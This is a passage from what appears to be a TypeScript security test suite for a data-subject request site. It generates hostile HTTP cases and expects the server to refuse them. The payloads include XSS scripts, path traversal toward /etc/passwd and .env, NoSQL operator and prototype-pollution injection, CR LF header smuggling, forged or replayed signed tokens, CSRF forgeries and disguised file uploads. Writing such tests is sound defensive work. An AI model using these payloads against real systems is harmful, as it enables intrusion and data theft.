      { json: { subject_request_id: 'x', request_status: 'completed', padding: 'x'.repeat(20_000) } },
      413,
    ),
    c(
      'processor callback of 200 KB, declared length',
      '/processors/callback/0a1b2c3d-4e5f-4a6b-a7c8-9d0e1f2a3b4c?token=x',
      { raw: 'x'.repeat(200_000), contentType: 'application/json' },
      413,
    ),
    {
      ...c(
        'processor callback of 300 KB straight to the data service',
        '/processors/callback/0a1b2c3d-4e5f-4a6b-a7c8-9d0e1f2a3b4c?token=x',
        { raw: `{"p":"${'x'.repeat(300_000)}"}`, contentType: 'application/json' },
        413,
      ),
      target: 'data',
    },
    {
      ...c('a 10 KB request id in the status URL', `/status/req_${'a'.repeat(10_000)}?token=x`, { raw: '' }, 404),
      method: 'GET',
      body: undefined,
    },
    {
      ...c('a 20 KB URL (over the header limit)', `/status/req_${'a'.repeat(20_000)}?token=x`, { raw: '' }, 431),
      method: 'GET',
      body: undefined,
      parserLevel: true,
    },
  ];
}

function gzipOf(text: string): Buffer {
  return gzipSync(Buffer.from(text));
}

/** The web form's fields for an authorized agent's deletion request, valid, with overrides. */
function agentFormFields(ctx: CorpusContext, overrides: Record<string, string>): [string, string][] {
  return Object.entries({
    _csrf: ctx.csrfToken,
    type: 'deletion',
    jurisdiction: 'GDPR',
    email: ctx.newEmail(),
    name: NAME,
    isAgent: 'yes',
    agentName: 'Grace Hopper',
    agentEmail: 'agent@agency.example',
    ...overrides,
  });
}

/** Fields of the web form: the form's base values for the request kind the field belongs to. */
const FORM_FIELDS: { field: string; base: Record<string, string>; freeText?: boolean; withPermission?: boolean }[] = [
  { field: 'type', base: {} },
  { field: 'jurisdiction', base: {} },
  { field: 'email', base: {} },
  { field: 'name', base: {}, freeText: true },
  { field: 'accountId', base: {} },
  { field: 'phone', base: {} },
  { field: 'correctionField', base: { type: 'correction', correctionValue: '12 Rue de la Paix' } },
  { field: 'correctionValue', base: { type: 'correction', correctionField: 'postalAddress' }, freeText: true },
  {
    field: 'correctionWhatIsWrong',
    base: { type: 'correction', correctionField: 'postalAddress', correctionValue: '12 Rue de la Paix' },
    freeText: true,
  },
  { field: 'channels', base: { type: 'objection' } },
  {
    field: 'agentName',
    base: { isAgent: 'yes', agentEmail: 'agent@agency.example' },
    freeText: true,
    withPermission: true,
  },
  { field: 'agentEmail', base: { isAgent: 'yes', agentName: 'Grace Hopper' }, withPermission: true },
  {
    field: 'declarationSignedName',
    base: { type: 'access', jurisdiction: 'CCPA', declarationAccepted: 'yes' },
    freeText: true,
  },
];

function formFieldInjection(ctx: CorpusContext): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const { field, base, freeText, withPermission } of FORM_FIELDS) {
    for (const payload of STRING_PAYLOADS) {
      if (freeText && payload.plainText) continue;
      // An empty optional field is simply not given.
      if (payload.value.trim() === '' && ['accountId', 'phone', 'correctionWhatIsWrong'].includes(field)) continue;
      const fields: [string, string][] = Object.entries({
        _csrf: ctx.csrfToken,
        type: 'deletion',
        jurisdiction: 'GDPR',
        email: ctx.newEmail(),
        name: NAME,
        ...base,
        [field]: payload.value,
      });
      cases.push({
        family: 'form-field-injection',
        name: `web form ${field} = ${payload.name}`,
        target: 'intake',
        method: 'POST',
        path: '/',
        csrfCookie: true,
        body: {
          multipart: fields,
          ...(withPermission
            ? {
                files: [
                  { field: 'permission', filename: 'permission.pdf', contentType: 'application/pdf', data: FILES.pdf },
                ],
              }
            : {}),
        },
        ...(payload.markup ? { markup: payload.value } : {}),
        expect: { status: 400, field },
      });
    }
  }
  // The same form sent urlencoded (no upload), for the fields a person types.
  for (const field of ['email', 'name', 'phone', 'accountId']) {
    for (const payload of STRING_PAYLOADS) {
      if (field === 'name' && payload.plainText) continue;
      if (payload.value.trim() === '' && field !== 'email' && field !== 'name') continue;
      const fields: [string, string][] = Object.entries({
        _csrf: ctx.csrfToken,
        type: 'deletion',
        jurisdiction: 'GDPR',
        email: ctx.newEmail(),
        name: NAME,
        [field]: payload.value,
      });
      cases.push({
        family: 'form-field-injection',
        name: `web form (urlencoded) ${field} = ${payload.name}`,
        target: 'intake',
        method: 'POST',
        path: '/',
        csrfCookie: true,
        body: { form: fields },
        ...(payload.markup ? { markup: payload.value } : {}),
        // The urlencoded parser's 8 KB limit refuses the huge one before any field is read.
        expect: payload.value.length > 8_000 ? { status: 413 } : { status: 400, field },
      });
    }
  }
  // Parameter-pollution and prototype keys the form must ignore (and must not pollute with).
  const polluting: [string, [string, string][]][] = [
    ['__proto__[polluted]', [['__proto__[polluted]', 'yes']]],
    ['__proto__', [['__proto__', 'polluted']]],
    ['constructor[prototype][polluted]', [['constructor[prototype][polluted]', 'yes']]],
    [
      'email twice (array)',
      [
        ['email', 'not-an-email'],
        ['email', 'ada@example.com'],
      ],
    ],
  ];
  for (const [name, extra] of polluting) {
    for (const kind of ['multipart', 'form'] as const) {
      const fields: [string, string][] = [
        ['_csrf', ctx.csrfToken],
        ['type', 'deletion'],
        ['jurisdiction', 'GDPR'],
        ['name', NAME],
        ...extra,
      ];
      if (!extra.some(([key]) => key === 'email')) fields.push(['email', 'no-at-sign']);
      cases.push({
        family: 'form-field-injection',
        name: `web form (${kind}) ${name}, with a bad email`,
        target: 'intake',
        method: 'POST',
        path: '/',
        csrfCookie: true,
        body: kind === 'multipart' ? { multipart: fields } : { form: fields },
        expect: { status: 400, field: 'email' },
      });
    }
  }
  return cases;
}

function formCsrf(ctx: CorpusContext): HostileCase[] {
  const valid: [string, string][] = [
    ['type', 'deletion'],
    ['jurisdiction', 'GDPR'],
    ['email', ctx.newEmail()],
    ['name', `<script>alert("${XSS_MARK}")</script>`],
  ];
  const c = (
    name: string,
    path: string,
    body: Body,
    csrfCookie: boolean,
    headers: Record<string, string> = {},
  ): HostileCase => ({
    family: 'form-csrf',
    name,
    target: 'intake',
    method: 'POST',
    path,
    body,
    csrfCookie,
    headers,
    markup: `<script>alert("${XSS_MARK}")</script>`,
    expect: { status: 403 },
  });
  const forged = 'f'.repeat(64);
  return [
    c('form without cookie or token', '/', { multipart: valid }, false),
    c('form with the token but no cookie', '/', { multipart: [['_csrf', ctx.csrfToken], ...valid] }, false),
    c('form with the cookie but no token', '/', { multipart: valid }, true),
    c('form with a forged token', '/', { multipart: [['_csrf', forged], ...valid] }, true),
    c('form with the token for another cookie', '/', { multipart: [['_csrf', ctx.csrfToken], ...valid] }, false, {
      cookie: `rf_csrf=${'A'.repeat(32)}`,
    }),
    c('form with a malformed cookie', '/', { multipart: [['_csrf', ctx.csrfToken], ...valid] }, false, {
      cookie: 'rf_csrf=%E0%A4%A',
    }),
    c(
      'form with the token as an array',
      '/',
      { multipart: [['_csrf', ctx.csrfToken], ['_csrf', ctx.csrfToken], ...valid] },
      true,
    ),
    c('form with the token urlencoded, no cookie', '/', { form: [['_csrf', ctx.csrfToken], ...valid] }, false),
    c('verify without a token', `/verify/${ctx.pending.requestId}`, { form: [['token', 'A'.repeat(43)]] }, true),
    c(
      'verify with a forged token',
      `/verify/${ctx.pending.requestId}`,
      {
        form: [
          ['_csrf', forged],
          ['token', 'A'.repeat(43)],
        ],
      },
      true,
    ),
    c('code without a token', `/requests/${ctx.pending.requestId}/code`, { form: [['code', '123456']] }, true),
    c(
      'code with the token and no cookie',
      `/requests/${ctx.pending.requestId}/code`,
      {
        form: [
          ['_csrf', ctx.csrfToken],
          ['code', '123456'],
        ],
      },
      false,
    ),
    c(
      'withdraw without a token',
      `/status/${ctx.pending.requestId}/withdraw`,
      { form: [['token', ctx.pending.statusToken]] },
      true,
    ),
    c(
      'withdraw with the real status token but a forged CSRF token',
      `/status/${ctx.pending.requestId}/withdraw`,
      {
        form: [
          ['_csrf', forged],
          ['token', ctx.pending.statusToken],
        ],
      },
      true,
    ),
  ];
}

function agentUpload(ctx: CorpusContext): HostileCase[] {
  const request = () => JSON.stringify(baseBody('agent', ctx.newEmail()));
  const c = (
    name: string,
    files: UploadPart[],
    fields: [string, string][] | null,
    status: number | number[],
    field?: string,
  ): HostileCase => ({
    family: 'agent-upload',
    name: `API: ${name}`,
    target: 'intake',
    method: 'POST',
    path: API,
    body: { multipart: fields ?? [['request', request()]], files },
    expect: field ? { status, field } : { status },
  });
  const file = (filename: string, data: Buffer, contentType = 'application/pdf'): UploadPart => ({
    field: 'permission',
    filename,
    contentType,
    data,
  });
  const cases: HostileCase[] = [
    c('a script named permission.pdf', [file('permission.pdf', FILES.script)], null, 400, 'permission'),
    c('HTML named permission.jpg', [file('permission.jpg', FILES.html, 'image/jpeg')], null, 400, 'permission'),
    c(
      'SVG with a script named permission.png',
      [file('permission.png', FILES.svg, 'image/png')],
      null,
      400,
      'permission',
    ),
    c('a shell script named permission.pdf', [file('permission.pdf', FILES.shell)], null, 400, 'permission'),
    c('an ELF binary named permission.pdf', [file('permission.pdf', FILES.elf)], null, 400, 'permission'),
    c('a ZIP named permission.pdf', [file('permission.pdf', FILES.zip)], null, 400, 'permission'),
    c(
      'a PNG named permission.pdf (mislabeled)',
      [file('permission.pdf', FILES.png, 'application/pdf')],
      null,
      400,
      'permission',
    ),
    c(
      'a JPEG named permission.png (mislabeled)',
      [file('permission.png', FILES.jpeg, 'image/png')],
      null,
      400,
      'permission',
    ),
    c(
      'a PDF named permission.exe',
      [file('permission.exe', FILES.pdf, 'application/octet-stream')],
      null,
      400,
      'permission',
    ),
    c(
      'a PDF named permission.pdf.html',
      [file('permission.pdf.html', FILES.pdf, 'text/html')],
      null,
      400,
      'permission',
    ),
    c('a PDF with no extension', [file('permission', FILES.pdf)], null, 400, 'permission'),
    c('an empty file', [file('permission.pdf', Buffer.alloc(0))], null, 400, 'permission'),
    c('a script with a traversal file name', [file('../../../../tmp/evil.pdf', FILES.script)], null, 400, 'permission'),
    c(
      'a script with CR LF in the file name',
      [file('permission.pdf\r\nX-Injected: 1', FILES.script)],
      null,
      [400],
      undefined,
    ),
    c('no permission with an agent', [], null, 400, 'permission'),
    c(
      'a permission without an agent',
      [file('permission.pdf', FILES.pdf)],
      [['request', JSON.stringify(baseBody('deletion', ctx.newEmail()))]],
      400,
      'permission',
    ),
    c('two permission files', [file('a.pdf', FILES.pdf), file('b.pdf', FILES.pdf)], null, [400, 413]),
    c('the file under another field name', [{ ...file('permission.pdf', FILES.pdf), field: 'evil' }], null, 400),
    c(
      'request part is not JSON',
      [file('permission.pdf', FILES.pdf)],
      [['request', '{type: deletion']],
      400,
      'request',
    ),
    c('no request part', [file('permission.pdf', FILES.pdf)], [], 400, 'request'),
    c(
      'request part twice',
      [file('permission.pdf', FILES.pdf)],
      [
        ['request', request()],
        ['request', request()],
      ],
      400,
      'request',
    ),
    c(
      'request part holds $where',
      [file('permission.pdf', FILES.pdf)],
      [['request', JSON.stringify({ ...baseBody('agent', ctx.newEmail()), $where: '1' })]],
      400,
      '$where',
    ),
    c(
      'request part holds __proto__',
      [file('permission.pdf', FILES.pdf)],
      [['request', request().replace('{', '{"__proto__":{"polluted":"yes"},')]],
      400,
      '__proto__',
    ),
    c(
      'an extra multipart field',
      [file('permission.pdf', FILES.pdf)],
      [
        ['request', request()],
        ['admin', 'true'],
      ],
      400,
      'admin',
    ),
    c(
      'a __proto__[polluted] multipart field',
      [file('permission.pdf', FILES.pdf)],
      [
        ['request', request()],
        ['__proto__[polluted]', 'yes'],
      ],
      400,
    ),
    c(
      'a constructor[prototype] multipart field',
      [file('permission.pdf', FILES.pdf)],
      [
        ['request', request()],
        ['constructor[prototype][polluted]', 'yes'],
      ],
      400,
    ),
  ];
  // The same checks through the web form (an agent ticks "for someone else").
  const form = (name: string, files: UploadPart[], status: number | number[] = 400): HostileCase => ({
    family: 'agent-upload',
    name: `web form: ${name}`,
    target: 'intake',
    method: 'POST',
    path: '/',
    csrfCookie: true,
    body: { multipart: agentFormFields(ctx, {}), files },
    expect: status === 400 ? { status, field: 'permission' } : { status },
  });
  cases.push(
    form('a script named permission.pdf', [file('permission.pdf', FILES.script)]),
    form('HTML named permission.png', [file('permission.png', FILES.html, 'image/png')]),
    form('a PNG named permission.pdf', [file('permission.pdf', FILES.png)]),
    form('a PDF named permission.svg', [file('permission.svg', FILES.pdf, 'image/svg+xml')]),
    form('an empty file', [file('permission.pdf', Buffer.alloc(0))]),
    form('no file', []),
    form('two files', [file('a.pdf', FILES.pdf), file('b.pdf', FILES.pdf)], [400, 413]),
  );
  return cases;
}

function statusTokens(ctx: CorpusContext): HostileCase[] {
  const { requestId, statusToken } = ctx.pending;
  const hour = Date.now() + 3_600_000;
  const signed = ctx.sign({ purpose: 'status', ref: requestId, expiresAt: hour });
  const [signedBody, signedMac] = signed.split('.');
  const tokens: [string, string][] = [
    ['a random token', 'Q'.repeat(32)],
    ['an empty token', ''],
    ['the other request’s status token', ctx.done.statusToken],
    ['the status token with one character changed', flip(statusToken)],
    ['the status token with a suffix', `${statusToken}x`],
    ['a 600-character token', 'A'.repeat(600)],
    ['a token with a NUL', `${statusToken}%00`],
    ['a script as the token', encodeURIComponent(`<script>alert("${XSS_MARK}")</script>`)],
    [
      'a status link signed with another key',
      ctx.sign({ purpose: 'status', ref: requestId, expiresAt: hour }, 'not-our-key-not-our-key-not-our-key'),
    ],
    ['an expired status link', ctx.sign({ purpose: 'status', ref: requestId, expiresAt: Date.now() - 1_000 })],
    ['a download link token used as a status link', ctx.sign({ purpose: 'download', ref: requestId, expiresAt: hour })],
    ['a status link for another request', ctx.sign({ purpose: 'status', ref: ctx.done.requestId, expiresAt: hour })],
    ['a status link with a tampered signature', `${signedBody}.${flip(signedMac)}`],
    [
      'a status link with a tampered body',
      `${Buffer.from(JSON.stringify(['status', requestId, hour * 10])).toString('base64url')}.${signedMac}`,
    ],
    ['a status link with three parts', `${signed}.x`],
  ];
  const cases: HostileCase[] = [];
  for (const [name, token] of tokens) {
    const query = `token=${token.startsWith('%') || token.includes('%') ? token : encodeURIComponent(token)}`;
    cases.push(
      {
        family: 'status-tokens',
        name: `API status: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `${API}/${requestId}?${query}`,
        expect: { status: 404, sameAs: 'api-status-404' },
      },
      {
        family: 'status-tokens',
        name: `status page: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `/status/${requestId}?${query}`,
        expect: { status: 404, sameAs: 'page-status-404' },
      },
    );
  }
  const queries: [string, string][] = [
    ['no token', ''],
    ['the token twice (array)', `token=${encodeURIComponent(statusToken)}&token=${encodeURIComponent(statusToken)}`],
    ['token[$ne]=', 'token[$ne]=x'],
    ['token as an object', `token[a]=${encodeURIComponent(statusToken)}`],
  ];
  for (const [name, query] of queries) {
    cases.push(
      {
        family: 'status-tokens',
        name: `API status: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `${API}/${requestId}?${query}`,
        expect: { status: 404, sameAs: 'api-status-404' },
      },
      {
        family: 'status-tokens',
        name: `status page: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `/status/${requestId}?${query}`,
        expect: { status: 404, sameAs: 'page-status-404' },
      },
    );
  }
  const ids: [string, string][] = [
    ['an unknown request id with a real token', 'req_aaaaaaaaaaaaaaaa'],
    ['an upper-case request id', requestId.toUpperCase()],
    ['a traversal request id', '..%2f..%2f..%2fetc%2fpasswd'],
    ['an SQL-ish request id', encodeURIComponent("req_' OR '1'='1")],
    ['an operator as the request id', encodeURIComponent('{"$gt":""}')],
    ['a request id with a NUL', `${requestId}%00`],
    ['a request id with CR LF', `${requestId}%0d%0aSet-Cookie:%20rf_injected=1`],
  ];
  for (const [name, id] of ids) {
    cases.push(
      {
        family: 'status-tokens',
        name: `API status: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `${API}/${id}?token=${encodeURIComponent(statusToken)}`,
        expect: { status: 404, sameAs: 'api-status-404' },
      },
      {
        family: 'status-tokens',
        name: `status page: ${name}`,
        target: 'intake',
        method: 'GET',
        path: `/status/${id}?token=${encodeURIComponent(statusToken)}`,
        expect: { status: 404, sameAs: 'page-status-404' },
      },
    );
  }
  // Withdrawing someone else's request, or with a token of the wrong shape.
  const withdraws: [string, unknown, number, string?][] = [
    ['a random token', { token: 'Q'.repeat(32) }, 404],
    ['the other request’s token', { token: ctx.done.statusToken }, 404],
    [
      'a signed link of the wrong purpose',
      { token: ctx.sign({ purpose: 'download', ref: requestId, expiresAt: hour }) },
      404,
    ],
    ['token as {"$ne":null}', { token: { $ne: null } }, 400, 'token'],
    ['token as an array', { token: [statusToken] }, 400, 'token'],
    ['token as a number', { token: 1 }, 400, 'token'],
    ['no token', {}, 400, 'token'],
    ['an extra field', { token: statusToken, by: 'operator' }, 400, 'by'],
    ['a JSON array', [statusToken], 400, 'body'],
  ];
  for (const [name, json, status, field] of withdraws) {
    cases.push({
      family: 'status-tokens',
      name: `API withdraw: ${name}`,
      target: 'intake',
      method: 'POST',
      path: `${API}/${requestId}/withdraw`,
      body: { json },
      expect: field ? { status, field } : { status },
    });
  }
  for (const [name, token] of [
    ['a random token', 'Q'.repeat(32)],
    ['the other request’s token', ctx.done.statusToken],
    ['an empty token', ''],
  ]) {
    cases.push({
      family: 'status-tokens',
      name: `withdraw page: ${name}`,
      target: 'intake',
      method: 'POST',
      path: `/status/${requestId}/withdraw`,
      csrfCookie: true,
      body: {
        form: [
          ['_csrf', ctx.csrfToken],
          ['token', token],
        ],
      },
      expect: { status: 404 },
    });
  }
  cases.push({
    family: 'status-tokens',
    name: 'withdraw page: no token field',
    target: 'intake',
    method: 'POST',
    path: `/status/${requestId}/withdraw`,
    csrfCookie: true,
    body: { form: [['_csrf', ctx.csrfToken]] },
    expect: { status: 404 },
  });
  cases.push({
    family: 'status-tokens',
    name: 'withdraw page: the token twice',
    target: 'intake',
    method: 'POST',
    path: `/status/${requestId}/withdraw`,
    csrfCookie: true,
    body: {
      form: [
        ['_csrf', ctx.csrfToken],
        ['token', statusToken],
        ['token', statusToken],
      ],
    },
    expect: { status: 404 },
  });
  return cases;
}

function verifyAndCode(ctx: CorpusContext): HostileCase[] {
  const { requestId } = ctx.pending;
  const well = 'B'.repeat(43);
  const cases: HostileCase[] = [];
  const get = (name: string, path: string, status: number): HostileCase => ({
    family: 'verify-and-code',
    name: `verify link: ${name}`,
    target: 'intake',
    method: 'GET',
    path,
    expect: { status, sameAs: status === 404 ? 'verify-404' : undefined },
  });
  cases.push(
    get('no token', `/verify/${requestId}`, 404),
    get('a 300-character token', `/verify/${requestId}?token=${'A'.repeat(300)}`, 404),
    get('the token twice', `/verify/${requestId}?token=${well}&token=${well}`, 404),
    get('token[$ne]', `/verify/${requestId}?token[$ne]=x`, 404),
    get('a malformed request id', `/verify/req_AAAA?token=${well}`, 404),
    get('a traversal request id', `/verify/..%2f..%2fapi%2fdocs?token=${well}`, 404),
  );
  const post = (name: string, id: string, fields: [string, string][], status: number, field?: string): HostileCase => ({
    family: 'verify-and-code',
    name: `verify confirm: ${name}`,
    target: 'intake',
    method: 'POST',
    path: `/verify/${id}`,
    csrfCookie: true,
    body: { form: [['_csrf', ctx.csrfToken], ...fields] },
    expect: field ? { status, field } : { status },
  });
  cases.push(
    post('no token', requestId, [], 400, 'token'),
    post('a 42-character token', requestId, [['token', 'B'.repeat(42)]], 400, 'token'),
    post('a 44-character token', requestId, [['token', 'B'.repeat(44)]], 400, 'token'),
    post(
      'a token with a dot (a signed-link shape)',
      requestId,
      [['token', `${'B'.repeat(21)}.${'B'.repeat(21)}`]],
      400,
      'token',
    ),
    post('a script as the token', requestId, [['token', `<script>alert("${XSS_MARK}")</script>`]], 400, 'token'),
    post('an operator as the token', requestId, [['token', '{"$gt":""}']], 400, 'token'),
    post(
      'the token twice (array)',
      requestId,
      [
        ['token', well],
        ['token', well],
      ],
      400,
      'token',
    ),
    post('a well-formed token for an unknown request', 'req_aaaaaaaaaaaaaaaa', [['token', well]], 404),
    post('a well-formed token for a malformed request id', 'req_AAAA', [['token', well]], 404),
    post(
      'the used link of a completed request, replayed',
      ctx.done.requestId,
      [['token', ctx.done.usedVerifyToken]],
      409,
    ),
  );
  const code = (name: string, id: string, fields: [string, string][], status: number): HostileCase => ({
    family: 'verify-and-code',
    name: `code page: ${name}`,
    target: 'intake',
    method: 'POST',
    path: `/requests/${id}/code`,
    csrfCookie: true,
    body: { form: [['_csrf', ctx.csrfToken], ...fields] },
    expect: { status },
  });
  for (const [name, value] of [
    ['five digits', '12345'],
    ['seven digits', '1234567'],
    ['a letter', '12a456'],
    ['Arabic-Indic digits', '١٢٣٤٥٦'],
    ['fullwidth digits', '１２３４５６'],
    ['an operator', '{"$gt":""}'],
    ['a script', `<script>alert("${XSS_MARK}")</script>`],
    ['empty', ''],
  ]) {
    cases.push(code(name, requestId, [['code', value]], 400));
  }
  cases.push(
    code(
      'the code twice (array)',
      requestId,
      [
        ['code', '123456'],
        ['code', '654321'],
      ],
      400,
    ),
    code('no code', requestId, [], 400),
    code('a well-formed code for an unknown request', 'req_aaaaaaaaaaaaaaaa', [['code', '123456']], 404),
    code('a well-formed code for a completed request', ctx.done.requestId, [['code', '123456']], 409),
  );
  const api = (name: string, id: string, json: unknown, status: number, field?: string): HostileCase => ({
    family: 'verify-and-code',
    name: `API code: ${name}`,
    target: 'intake',
    method: 'POST',
    path: `${API}/${id}/verification-code`,
    body: { json },
    expect: field ? { status, field } : { status },
  });
  cases.push(
    api('five digits', requestId, { code: '12345' }, 400, 'code'),
    api('a number', requestId, { code: 123456 }, 400, 'code'),
    api('{"$gt":""}', requestId, { code: { $gt: '' } }, 400, 'code'),
    api('{"$regex":"^"}', requestId, { code: { $regex: '^' } }, 400, 'code'),
    api('an array', requestId, { code: ['123456'] }, 400, 'code'),
    api('null', requestId, { code: null }, 400, 'code'),
    api('no code', requestId, {}, 400, 'code'),
    api('an extra field', requestId, { code: '123456', attemptsLeft: 99 }, 400, 'attemptsLeft'),
    api('__proto__', requestId, JSON.parse('{"code":"123456","__proto__":{"polluted":"yes"}}'), 400, '__proto__'),
    api('Arabic-Indic digits', requestId, { code: '١٢٣٤٥٦' }, 400, 'code'),
    api('a well-formed code for an unknown request', 'req_aaaaaaaaaaaaaaaa', { code: '123456' }, 404),
    api('a well-formed code for a malformed request id', 'req_A', { code: '123456' }, 404),
    api('a well-formed code for a completed request', ctx.done.requestId, { code: '123456' }, 409),
  );
  return cases;
}

function downloadLinks(ctx: CorpusContext): HostileCase[] {
  const { bundleId, downloadToken } = ctx.done;
  const other = ctx.other.bundleId;
  const week = Date.now() + 7 * 86_400_000;
  const [tokenBody, tokenMac] = downloadToken.split('.');
  const tokens: [string, string, number][] = [
    ['a forged token', 'forged.token', 403],
    ['an empty token', '', 403],
    ['a token with a flipped signature', `${tokenBody}.${flip(tokenMac)}`, 403],
    [
      'a token re-pointed at another bundle, old signature',
      `${Buffer.from(JSON.stringify(['download', other, week])).toString('base64url')}.${tokenMac}`,
      403,
    ],
    [
      'a token with a later expiry, old signature',
      `${Buffer.from(JSON.stringify(['download', bundleId, week * 2])).toString('base64url')}.${tokenMac}`,
      403,
    ],
    [
      'a token signed with another key',
      ctx.sign({ purpose: 'download', ref: bundleId, expiresAt: week }, 'not-our-key-not-our-key-not-our-key'),
      403,
    ],
    ['an expired token', ctx.sign({ purpose: 'download', ref: bundleId, expiresAt: Date.now() - 1_000 }), 410],
    ['a status-link token', ctx.sign({ purpose: 'status', ref: bundleId, expiresAt: week }), 403],
    ['a processor-callback token', ctx.sign({ purpose: 'processor-callback', ref: bundleId, expiresAt: week }), 403],
    ['a 5 000-character token', 'A'.repeat(5_000), 403],
    ['the token with three parts', `${downloadToken}.x`, 403],
  ];
  const cases: HostileCase[] = [];
  for (const target of ['intake', 'data'] as const) {
    const at = target === 'intake' ? 'through the site' : 'on the data service';
    const c = (name: string, path: string, status: number | number[], method = 'GET'): HostileCase => ({
      family: 'download-links',
      name: `${at}: ${name}`,
      target,
      method,
      path,
      expect: { status },
    });
    for (const [name, token, status] of tokens) {
      cases.push(c(`${name} (zip)`, `/download/${bundleId}?token=${encodeURIComponent(token)}`, status));
      cases.push(c(`${name} (one file)`, `/download/${bundleId}/data.json?token=${encodeURIComponent(token)}`, status));
    }
    const mine = encodeURIComponent(downloadToken);
    cases.push(
      c('no token', `/download/${bundleId}`, 403),
      c('the token twice (array)', `/download/${bundleId}?token=${mine}&token=${mine}`, 403),
      c('the token and a forged one (array)', `/download/${bundleId}?token=forged&token=${mine}`, 403),
      c('token[$ne]=', `/download/${bundleId}?token[$ne]=x`, 403),
      c('token as an object', `/download/${bundleId}?token[ref]=${bundleId}`, 403),
      c('my token on another subject’s bundle (zip)', `/download/${other}?token=${mine}`, 403),
      c('my token on another subject’s bundle (file)', `/download/${other}/data.json?token=${mine}`, 403),
      c('their token on my bundle', `/download/${bundleId}?token=${encodeURIComponent(ctx.other.downloadToken)}`, 403),
      c('a file not in the bundle', `/download/${bundleId}/secrets.txt?token=${mine}`, 404),
      c('a dot file', `/download/${bundleId}/.env?token=${mine}`, 404),
      c('traversal ../../etc/passwd', `/download/${bundleId}/../../etc/passwd?token=${mine}`, 404),
      c('traversal encoded %2e%2e%2f', `/download/${bundleId}/%2e%2e%2f%2e%2e%2fetc%2fpasswd?token=${mine}`, 404),
      c('traversal double-encoded', `/download/${bundleId}/%252e%252e%252fpackage.json?token=${mine}`, 404),
      c('traversal with backslashes', `/download/${bundleId}/..%5c..%5cpackage.json?token=${mine}`, 404),
      // Express cannot decode the parameter on the data service (400); the site refuses the path (404).
      c('traversal overlong UTF-8', `/download/${bundleId}/%c0%ae%c0%ae%c0%afpackage.json?token=${mine}`, [400, 404]),
      c('a NUL before an extension', `/download/${bundleId}/data.json%00.html?token=${mine}`, 404),
      c('CR LF in the file name', `/download/${bundleId}/data.json%0d%0aX-Injected:%201?token=${mine}`, 404),
      c('a deeper path', `/download/${bundleId}/data.json/x?token=${mine}`, 404),
      c('the bundle dir itself', `/download/${bundleId}/.?token=${mine}`, 404),
      c('the bundle id as traversal', `/download/..%2f..%2f..%2fetc?token=${mine}`, [403, 404]),
      c('an SQL-ish bundle id', `/download/${encodeURIComponent("b' OR 1=1--")}?token=${mine}`, [403, 404]),
      c('an operator as the bundle id', `/download/${encodeURIComponent('{"$gt":""}')}?token=${mine}`, [403, 404]),
      c('a bundle id one character long', `/download/b?token=${mine}`, 403),
      c('a bundle id too long', `/download/${bundleId}0?token=${mine}`, 403),
      c('POST to the link', `/download/${bundleId}?token=${mine}`, 404, 'POST'),
      c('DELETE on the link', `/download/${bundleId}?token=${mine}`, 404, 'DELETE'),
      c('PUT on a file', `/download/${bundleId}/data.json?token=${mine}`, 404, 'PUT'),
      c('HEAD with a forged token', `/download/${bundleId}?token=forged.token`, 403, 'HEAD'),
    );
  }
  return cases;
}

function processorCallbacks(ctx: CorpusContext): HostileCase[] {
  const id = '0a1b2c3d-4e5f-4a6b-a7c8-9d0e1f2a3b4c';
  const otherId = '9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a';
  const hour = Date.now() + 3_600_000;
  const valid = ctx.sign({ purpose: 'processor-callback', ref: id, expiresAt: hour });
  const [validBody, validMac] = valid.split('.');
  const ok = { subject_request_id: id, request_status: 'completed' };
  const cases: HostileCase[] = [];
  for (const target of ['intake', 'data'] as const) {
    const at = target === 'intake' ? 'through the site' : 'on the data service';
    const c = (
      name: string,
      path: string,
      body: Body | undefined,
      status: number | number[],
      method = 'POST',
    ): HostileCase => ({
      family: 'processor-callbacks',
      name: `${at}: ${name}`,
      target,
      method,
      path,
      ...(body ? { body } : {}),
      expect: { status },
    });
    const at_ = (token: string, to = id) => `/processors/callback/${to}?token=${encodeURIComponent(token)}`;
    cases.push(
      c('no token', `/processors/callback/${id}`, { json: ok }, 403),
      c('a forged token', at_('forged.token'), { json: ok }, 403),
      c(
        'a token signed with another key',
        at_(
          ctx.sign({ purpose: 'processor-callback', ref: id, expiresAt: hour }, 'not-our-key-not-our-key-not-our-key'),
        ),
        { json: ok },
        403,
      ),
      c(
        'an expired token',
        at_(ctx.sign({ purpose: 'processor-callback', ref: id, expiresAt: Date.now() - 1_000 })),
        { json: ok },
        403,
      ),
      c(
        'a token for another notification (replayed across ids)',
        at_(valid, otherId),
        { json: { ...ok, subject_request_id: otherId } },
        403,
      ),
      c('a download token', at_(ctx.sign({ purpose: 'download', ref: id, expiresAt: hour })), { json: ok }, 403),
      c('a tampered signature', at_(`${validBody}.${flip(validMac)}`), { json: ok }, 403),
      c(
        'the token twice (array)',
        `/processors/callback/${id}?token=${encodeURIComponent(valid)}&token=${encodeURIComponent(valid)}`,
        { json: ok },
        403,
      ),
      c('token[$ne]=', `/processors/callback/${id}?token[$ne]=x`, { json: ok }, 403),
      c(
        'a signed callback with malformed JSON',
        at_(valid),
        { raw: '{"subject_request_id":', contentType: 'application/json' },
        400,
      ),
      c('a signed callback with JSON null', at_(valid), { raw: 'null', contentType: 'application/json' }, 400),
      c('a signed callback with an array', at_(valid), { json: [ok] }, 400),
      c(
        'a signed callback with an operator as the id',
        at_(valid),
        { json: { ...ok, subject_request_id: { $gt: '' } } },
        400,
      ),
      c(
        'a signed callback with an operator as the status',
        at_(valid),
        { json: { ...ok, request_status: { $ne: null } } },
        400,
      ),
      c('a signed callback with an unknown status', at_(valid), { json: { ...ok, request_status: '$where' } }, 400),
      c('a signed callback with $set', at_(valid), { json: { ...ok, $set: { notifiedAt: null } } }, [400, 404]),
      c('a signed callback as text/plain', at_(valid), { raw: JSON.stringify(ok), contentType: 'text/plain' }, 400),
      c('a signed callback for a notification never sent', at_(valid), { json: ok }, 404),
      c('the same signed callback again (replay)', at_(valid), { json: ok }, 404),
      c('GET on the callback', at_(valid), undefined, 404, 'GET'),
      c('a deeper path', `/processors/callback/${id}/x?token=${encodeURIComponent(valid)}`, { json: ok }, 404),
    );
    cases.push({
      family: 'processor-callbacks',
